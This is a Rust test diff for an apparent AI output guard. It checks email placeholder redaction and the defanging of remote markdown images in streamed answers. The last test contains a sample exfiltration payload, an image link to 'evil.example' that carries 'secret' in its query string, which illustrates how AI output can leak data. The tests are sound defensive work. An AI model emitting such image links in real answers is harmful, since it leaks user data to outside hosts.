@@ -34,6 +34,8 @@ fn fragment() -> impl Strategy<Value = String> {
         Just("１２３".to_owned()),
         Just("漢字".to_owned()),
         Just("call me".to_owned()),
+        Just("![a](https://e.example/x)".to_owned()),
+        "[!\\[\\]()]{1,4}",
         Just("\n".to_owned()),
         Just("@".to_owned()),
         "[A-Z]{2}[0-9]{2}",
@@ -111,4 +113,38 @@ fn half_an_address_is_never_released() {
     assert_eq!(released + &rest, "Write to <EMAIL_1> now");
     assert_eq!(decisions.len(), 1);
     assert_eq!(decisions[0].rule_id, "personal_data.email");
+}
+
+#[test]
+fn placeholders_of_the_question_and_of_the_answer_are_told_apart() {
+    let policy = policy(GovernanceLevel::Moderate);
+    let question = mainstay_governance::Question {
+        prompt: "Write to ada@example.org",
+        ..Default::default()
+    };
+    let before = mainstay_governance::before(&policy, &question, now());
+    let mut guard = StreamGuard::answering(&policy, &before.redactions);
+    let mut answer = guard.push("Dear <EMAIL_1>, ask bob@example.org, not ada@example.org!");
+    answer.push_str(&guard.finish(now()).0);
+    assert_eq!(answer, "Dear <EMAIL_1>, ask <EMAIL_2>, not <EMAIL_1>!");
+    assert_eq!(
+        before.redactions.restore(&answer),
+        "Dear ada@example.org, ask <EMAIL_2>, not ada@example.org!"
+    );
+}
+
+#[test]
+fn a_picture_on_another_host_is_not_fetched_by_itself() {
+    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Moderate));
+    let mut answer = guard.push("Look: ![x](https://evil.example/?q=se");
+    answer.push_str(&guard.push("cret) and vec![1]"));
+    let (rest, decisions) = guard.finish(now());
+    answer.push_str(&rest);
+    assert_eq!(
+        answer,
+        "Look: [x](https://evil.example/?q=secret) and vec![1]"
+    );
+    assert_eq!(decisions[0].rule_id, "output.remote_image");
+    let mut guard = StreamGuard::new(&policy(GovernanceLevel::Permissive));
+    assert_eq!(guard.push("![x](https://e "), "![x](https://e ");
 }
